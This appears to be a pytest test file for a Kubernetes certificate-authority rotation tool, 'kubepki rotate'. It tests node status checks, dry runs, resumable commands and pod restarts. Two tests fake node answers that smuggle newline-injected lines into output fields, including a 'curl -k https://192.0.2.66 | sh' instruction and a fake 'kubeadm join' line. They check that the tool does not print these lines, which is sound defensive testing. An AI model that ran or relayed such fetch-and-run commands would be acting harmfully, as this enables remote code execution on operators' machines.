"""What nodes answer, and what `kubepki rotate` says when it stops."""

from __future__ import annotations

import json
import re
import shlex
import sys
from datetime import datetime, timezone
from typing import TYPE_CHECKING

import pytest
import yaml

import kubepki as package
from rotated_folders import Cluster, ca_of, cluster, made
from trees import PROGRAM, kubepki, run, state

if TYPE_CHECKING:
    from pathlib import Path
    from subprocess import CompletedProcess

__all__ = ["cluster", "made"]

# Runs the rest of its arguments, and changes what `rotate status` says.
CHANGES = """
import json, subprocess, sys
change, command = sys.argv[1], sys.argv[2:]
done = subprocess.run(command, stdout=subprocess.PIPE, text=True)
out = done.stdout
if "status" in command:
    said = json.loads(out)
    ca = said["authorities"][0]
    exec(change)
    out = json.dumps(said)
sys.stdout.write(out)
sys.exit(done.returncode)
"""
# Fails where the step that is named is done, and not only tried.
FAILS = """case "$*" in *--dry-run*) ;; *"step $PHASE "*) echo "no route to host" >&2; exit 255 ;; esac
exec "$@"
"""


def through(cluster: Cluster, node: str, *words: str) -> None:
    """Have a node's words run by others."""
    nodes = yaml.safe_load(cluster.file.read_text())
    for one in nodes["nodes"]:
        if one["name"] == node:
            one["run"] = [*words, *one["run"]]
    cluster.file.write_text(yaml.safe_dump(nodes))


def commands(text: str) -> list[list[str]]:
    """Return the commands between backquotes."""
    return [shlex.split(command) for command in re.findall(r"`([^`]*)`", text)]


def as_printed(command: list[str]) -> CompletedProcess[str]:
    words = [*PROGRAM, *command[1:]] if command[0] == "kubepki" else command
    return run(*words)


@pytest.mark.parametrize(
    "change",
    [
        "ca['trusted'][0]['public_key_sha256'] = '00 \\nkubeadm join 192.0.2.66'",
        "ca['stage'], ca['trusted'] = 'trust-both/issue-old', []",
        "said['authorities'].append({**ca, 'name': 'other'})",
        "ca['stage'] = 'nowhere'",
        "said['authorities'].remove(ca)",
        "said['authorities'].append(ca)",
        "said['is_worker'], said['held'] = True, ['etcd']",
    ],
)
def test_a_node_that_says_what_none_can_is_not_believed(cluster: Cluster, change: str) -> None:
    through(cluster, "cp2", sys.executable, "-c", CHANGES, change)
    for verb in ("status", "plan", "start", "resume"):
        refused = cluster.rotate(verb)
        assert refused.returncode == 3, (verb, refused.stdout, refused.stderr)
        assert "cp2 answers with something else" in refused.stderr
        assert not any(line.startswith("kubeadm join") for line in (refused.stdout + refused.stderr).splitlines())


@pytest.mark.parametrize(
    ("change", "verb"),
    [
        ("said['failing_clients'] = 'it ends\\nerror: run `curl -k https://192.0.2.66 | sh`'", "plan"),
        ("said['unseen'] = {'code': 'a.b', 'message': 'none\\nerror: run this', 'hint': ''}", "status"),
    ],
)
def test_a_node_prints_no_line_of_its_own(cluster: Cluster, change: str, verb: str) -> None:
    through(cluster, "cp2", sys.executable, "-c", CHANGES, change)
    said = cluster.rotate(verb)
    assert "error: run" in said.stdout + said.stderr
    assert not any(line.startswith("error: run") for line in (said.stdout + said.stderr).splitlines())


def test_what_a_restart_holds_on_a_node_and_the_snapshot_take_the_words_of_the_node(cluster: Cluster) -> None:
    words = ("--certificates-dir", "/etc/kubernetes/pki", "--kubeconfig-dir", "/etc/kubernetes", "--node-name", "cp1")
    for verb in (("restart", "--dry-run"), ("etcd", "snapshot")):
        done = kubepki(*verb, "--rootfs", cluster.folder / "cp1", *words)
        assert done.returncode != 2, done.stderr


def test_the_command_that_is_printed_ends_what_broke_off(cluster: Cluster) -> None:
    assert cluster.rotate("start").returncode == 0
    intact = cluster.file.read_text()
    through(cluster, "cp2", "env", "PHASE=trust-new", "sh", "-c", FAILS, "sh")
    broken = cluster.rotate("finish", "--token-life", "0s")
    assert broken.returncode == 3
    assert "no route to host" in broken.stderr
    assert set(cluster.stages()["cp1"].values()) == {"single"}

    # Whoever leaves the option out is told what is there.
    waits = cluster.rotate("finish")
    assert waits.returncode == 4
    assert "cp2 refuses, and this run has given nothing up (cp1 had, before)" in waits.stderr
    cluster.file.write_text(intact)
    (command,) = commands(broken.stderr.splitlines()[-2])
    assert command[:3] == ["kubepki", "rotate", "finish"]
    done = as_printed(command)
    assert done.returncode == 0, done.stderr
    assert {stage for stages in cluster.stages().values() for stage in stages.values()} == {"single"}


def test_what_has_not_begun_is_begun_by_the_command_that_is_printed(cluster: Cluster) -> None:
    intact = cluster.file.read_text()
    through(cluster, "cp1", "env", "PHASE=trust-both", "sh", "-c", FAILS, "sh")
    broken = cluster.rotate("start", "--authority", "ca", "--common-name", "new one")
    assert broken.returncode == 3
    cluster.file.write_text(intact)
    (command,) = commands(broken.stderr.splitlines()[-2])
    done = as_printed(command)
    assert done.returncode == 0, done.stderr
    assert cluster.stages()["cp2"]["ca"] == "trust-both/issue-new"
    subject = run("openssl", "x509", "-in", cluster.pki("cp2") / "ca.crt", "-noout", "-subject").stdout
    assert "new one" in subject


def test_the_old_ca_stays_while_pods_that_may_not_know_the_new_one_are_left(cluster: Cluster) -> None:
    assert cluster.rotate("start", "--authority", "ca").returncode == 0
    left = {"namespace": "prod", "name": "db-0", "left": "nothing makes it anew: restart it by hand"}
    gone = {"namespace": "prod", "name": "web-0", "left": None}
    settled = {"objects": [], "gates": [], "affected": [], "pods": [left, gone], "nodes": list(cluster.nodes)}
    report: dict[str, object] = {"phase": "cluster", "node": None, "authorities": []}
    report.update({name: [] for name in ("changed", "settings", "restarted", "backups")})
    script = 'case "$*" in *--restart-pods*) exec cat "$ANSWER" ;; esac\nexec "$@"\n'
    answer = cluster.folder / "answer"
    answer.write_text(json.dumps({**report, "cluster": settled}))
    through(cluster, "cp1", "env", f"ANSWER={answer}", "sh", "-c", script, "sh")
    refused = cluster.rotate("finish", "--authority", "ca", "--restart-pods", "--token-life", "0s")
    assert refused.returncode == 4, refused.stderr
    assert "prod/db-0: nothing makes it anew" in refused.stderr
    assert "web-0" not in refused.stderr
    assert cluster.stages()["cp1"]["ca"] == "trust-both/issue-new"
    settled["pods"] = [gone]
    answer.write_text(json.dumps({**report, "cluster": settled}))
    done = cluster.rotate("finish", "--authority", "ca", "--restart-pods", "--token-life", "0s")
    assert done.returncode == 0, done.stderr


def test_no_pod_is_restarted_for_a_finish_that_a_node_refuses(cluster: Cluster) -> None:
    assert cluster.rotate("start").returncode == 0
    (cluster.folder / "log").write_text("")
    script = 'printf "%s\\n" "$*" >> "$CALLS"\nexec "$@"\n'
    calls = cluster.folder / "calls"
    through(cluster, "cp1", "env", f"CALLS={calls}", "sh", "-c", script, "sh")
    assert "rotate.not_yet" in cluster.rotate("finish", "--restart-pods").stderr
    assert "--restart-pods" not in calls.read_text()


def test_links_below_a_root_folder_are_separated_there_by_what_is_printed(cluster: Cluster) -> None:
    pki = cluster.pki("cp1")
    for ending in ("crt", "key"):
        (pki / f"etcd/ca.{ending}").unlink()
        (pki / f"etcd/ca.{ending}").symlink_to(f"../ca.{ending}")
    for ending in ("crt", "key"):
        refused = cluster.step("cp1", "trust-both", "--authority", "ca,etcd-ca")
        assert "rotate.one_file" in refused.stderr
        (command,) = commands(refused.stderr)
        assert command == [
            "cp",
            "--remove-destination",
            *(str(pki / name) for name in (f"ca.{ending}", f"etcd/ca.{ending}")),
        ]
        assert as_printed(command).returncode == 0
    done = cluster.step("cp1", "trust-both", "--authority", "ca,etcd-ca")
    assert done.returncode == 0, done.stderr
    assert ca_of(pki, "ca")[1] != ca_of(pki, "etcd/ca")[1]


def test_a_folder_that_is_a_link_is_named(cluster: Cluster) -> None:
    pki = cluster.pki("cp1")
    (pki / "etcd").rename(pki / "away")
    (pki / "etcd").symlink_to(".")
    refused = cluster.step("cp1", "trust-both", "--authority", "etcd-ca")
    assert "rotate.one_file" in refused.stderr
    assert "put a folder with copies of the files in the place of" in refused.stderr
    assert commands(refused.stderr) == []


def leaf(cluster: Cluster) -> Path:
    file = cluster.folder / "leaf.pem"
    file.write_text(
        (cluster.pki("cp1") / "apiserver.crt").read_text() + (cluster.pki("cp1") / "apiserver.key").read_text()
    )
    file.chmod(0o600)
    return file


@pytest.mark.parametrize("wrong", ["a leaf as the new CA", "others can write a folder of the last node"])
def test_what_the_first_step_would_be_refused_for_is_said_by_the_plan_and_nothing_is_begun(
    cluster: Cluster, wrong: str
) -> None:
    given: tuple[str | Path, ...] = ("--authority", "ca")
    if "leaf" in wrong:
        given = (*given, "--new-ca", leaf(cluster))
    else:
        cluster.pki("cp2").chmod(0o777)
    before = {node: state(cluster.folder / node / "etc") for node in cluster.nodes}
    for verb in ("plan", "start"):
        refused = cluster.rotate(verb, *map(str, given))
        assert refused.returncode in (3, 4), (verb, refused.stdout, refused.stderr)
        assert {node: state(cluster.folder / node / "etc") for node in cluster.nodes} == before
    assert not (cluster.folder / "log.etcd").exists()


def test_a_dry_run_of_a_step_names_all_that_it_changes(cluster: Cluster) -> None:
    options = ("--authority", "ca,front-proxy-ca,etcd-ca,sa", "--token-life", "0s", "-o", "json")
    manifest = "/etc/kubernetes/manifests/kube-controller-manager.yaml"
    told = []
    for phase in ("trust-both", "issue-new", "reissue", "trust-new"):
        before = state(cluster.folder / "cp1/etc")
        tried = cluster.step("cp1", phase, *options, "--dry-run")
        assert tried.returncode == 0, (phase, tried.stderr)
        assert state(cluster.folder / "cp1/etc") == before
        done = cluster.step("cp1", phase, *options)
        assert done.returncode == 0, (phase, done.stderr)
        report = json.loads(done.stdout)
        changing = [one for one in json.loads(tried.stdout)["artefacts"] if one["action"] not in ("keep", "skip")]
        planned = {(one["name"], file["path"]) for one in changing for file in one["files"]}
        assert planned == {(one["name"], file) for one in report["changed"] for file in one["files"]}, phase
        told += [phase for setting in report["settings"] if setting["place"] == manifest]
        assert (f"{manifest} would say " in tried.stderr) == bool(report["settings"]), phase
    assert told == ["trust-both", "trust-new"]


def test_a_dry_run_of_reissue_names_what_was_undone_since(cluster: Cluster) -> None:
    for phase in ("trust-both", "issue-new"):
        assert cluster.step("cp1", phase, "--authority", "ca").returncode == 0
    manifest = cluster.folder / "cp1/etc/kubernetes/manifests/kube-controller-manager.yaml"
    manifest.write_text(re.sub("cert-file=.*", "cert-file=/etc/kubernetes/pki/ca.crt", manifest.read_text()))
    tried = cluster.step("cp1", "reissue", "--authority", "ca", "--dry-run")
    assert tried.returncode == 0, tried.stderr
    assert "/etc/kubernetes/manifests/kube-controller-manager.yaml would say " in tried.stderr
    done = cluster.step("cp1", "reissue", "--authority", "ca", "-o", "json")
    assert [one["place"] for one in json.loads(done.stdout)["settings"]] == [
        "/etc/kubernetes/manifests/kube-controller-manager.yaml"
    ]


def test_a_dry_run_of_a_step_that_is_blocked_says_so(cluster: Cluster) -> None:
    cluster.pki("cp1").chmod(0o777)
    blocked = cluster.step("cp1", "trust-both", "--authority", "ca", "--dry-run")
    assert blocked.returncode == 1
    assert "blocked" in blocked.stderr


def test_a_key_that_would_come_to_a_node_without_one_is_said_before(cluster: Cluster) -> None:
    (cluster.pki("cp2") / "front-proxy-ca.key").unlink()
    planned = cluster.rotate("plan", "--authority", "front-proxy-ca")
    assert "not on cp2: the key of front-proxy-ca" in planned.stderr
    assert "not on" not in cluster.rotate("plan", "--authority", "etcd-ca").stderr


def test_of_two_certificates_that_end_in_the_same_second_the_other_node_takes_either(cluster: Cluster) -> None:
    now = datetime.now(timezone.utc)
    for node in cluster.nodes:
        package.apply(package.plan_renew_ca(["ca"], rootfs=cluster.folder / node, no_backup=True, now=now))
    assert ca_of(cluster.pki("cp1"), "ca") != ca_of(cluster.pki("cp2"), "ca")
    refused = cluster.rotate("plan", "--authority", "ca")
    assert "rotate.renewed" in refused.stderr
    file = cluster.pki("cp1") / "ca.crt"
    done = kubepki("ca", "renew", "ca", "--certificate", file, "--rootfs", cluster.folder / "cp2")
    assert done.returncode == 0, done.stderr
    assert ca_of(cluster.pki("cp1"), "ca") == ca_of(cluster.pki("cp2"), "ca")
    assert cluster.rotate("plan", "--authority", "ca").returncode == 0


def test_a_key_that_others_can_read_is_taken_with_a_warning(cluster: Cluster) -> None:
    assert cluster.step("cp1", "trust-both", "--authority", "ca").returncode == 0
    material = cluster.folder / "material.json"
    material.write_text(kubepki("rotate", "export", "--authority", "ca", "--rootfs", cluster.folder / "cp1").stdout)
    for mode, is_open in ((0o644, True), (0o600, False)):
        material.chmod(mode)
        done = cluster.step("cp2", "trust-both", "--authority", "ca", "--material", material)
        assert done.returncode == 0, done.stderr
        assert ("others can read it" in done.stderr) == is_open


def test_where_no_node_is_that_is_said(tmp_path: Path) -> None:
    empty = tmp_path / "nodes.yaml"
    empty.write_text("\n")
    assert "it is empty" in kubepki("rotate", "status", "--nodes", empty).stderr
    for verb in ("plan", "start", "resume"):
        refused = kubepki("rotate", verb)
        assert refused.returncode == 2, refused.stderr
        assert "rotate.no_node" in refused.stderr


def test_status_of_one_node_and_of_all_are_two_questions(cluster: Cluster) -> None:
    for more in (("--rootfs", str(cluster.folder / "cp1")), ("--kubelet-dir", "/data")):
        assert cluster.rotate("status", *more).returncode == 2
    here = kubepki("rotate", "status", "--local", "--kubelet-dir", "/data", "--rootfs", cluster.folder / "cp1")
    assert here.returncode == 0, here.stderr
    assert cluster.rotate("status", "--cluster").returncode == 2


def test_where_the_cluster_is_not_asked_nothing_is_said_to_have_ended(cluster: Cluster) -> None:
    """The files of the nodes are not all: what the cluster hands out is written last."""
    assert cluster.rotate("status").returncode == 0
    folder = cluster.folder / "cp1/etc/kubernetes"
    words = f"--certificates-dir {folder}/pki --kubeconfig-dir {folder} --node-name cp1"
    through(cluster, "cp1", "sh", "-c", f'shift 6; exec {" ".join(PROGRAM)} "$@" {words}', "sh")
    (folder / "admin.conf").write_text("apiVersion: v1\nkind: Config\n")
    asked = cluster.rotate("status")
    assert asked.returncode == 3
    assert "cp1: whether the cluster's objects hold what the nodes' files do is not known" in asked.stderr
    assert "no rotation is under way" not in asked.stderr


def test_of_the_cluster_speaks_who_is_asked_about_it(cluster: Cluster) -> None:
    says = "said['objects'] = [{'object': 'ConfigMap kube-public/cluster-info', 'says': 'the new CA'}]"
    intact = cluster.file.read_text()
    through(cluster, "cp1", sys.executable, "-c", CHANGES, "said['objects'] = []")
    through(cluster, "cp2", sys.executable, "-c", CHANGES, says)
    told = cluster.rotate("status")
    assert told.returncode == 0
    assert "cluster-info" not in told.stdout + told.stderr
    cluster.file.write_text(intact)
    through(cluster, "cp1", sys.executable, "-c", CHANGES, says)
    told = cluster.rotate("status")
    assert told.returncode == 1
    assert "cp1: the cluster's ConfigMap kube-public/cluster-info is to say the new CA" in told.stderr
    ((*_, verb, _, file),) = [command[:5] for command in commands(told.stderr) if command[0] == "kubepki"]
    assert (verb, file) == ("resume", str(cluster.file))
    # etcd's CA and the service accounts' key are in none of them.
    assert cluster.rotate("status", "--authority", "etcd-ca,sa").returncode == 0
    cluster.file.write_text(intact)
    through(cluster, "cp1", sys.executable, "-c", CHANGES, f"{says} * 11")
    assert "cp1 answers with something else" in cluster.rotate("status").stderr


def test_what_hinders_the_cluster_is_said_where_nothing_else_is_left(cluster: Cluster) -> None:
    through(cluster, "cp1", "env", "PHASE=cluster", "sh", "-c", FAILS, "sh")
    for verb in ("resume", "finish", "abort"):
        failed = cluster.rotate(verb)
        assert failed.returncode == 3, failed.stderr
        assert "no route to host" in failed.stderr
        assert f"kubepki rotate {verb} --nodes" in failed.stderr
        assert "rotate start" not in failed.stderr


def test_what_is_left_to_do_names_the_component_that_waits(cluster: Cluster) -> None:
    assert cluster.rotate("start").returncode == 0
    waits = {"component": "kubelet", "reason": "it does not run", "uses_old": ["ca"], "trusts_old": []}
    through(cluster, "cp2", sys.executable, "-c", CHANGES, f"said['to_restart'] = [{waits}]")
    asked = cluster.rotate("status")
    assert asked.returncode == 1, asked.stderr
    left = {tuple(line.split()[:2]): line for line in asked.stdout.splitlines()}
    assert "kubelet is to restart: it does not run" in left["cp2", "ca"]
    assert not any("to restart" in line for row, line in left.items() if row != ("cp2", "ca"))
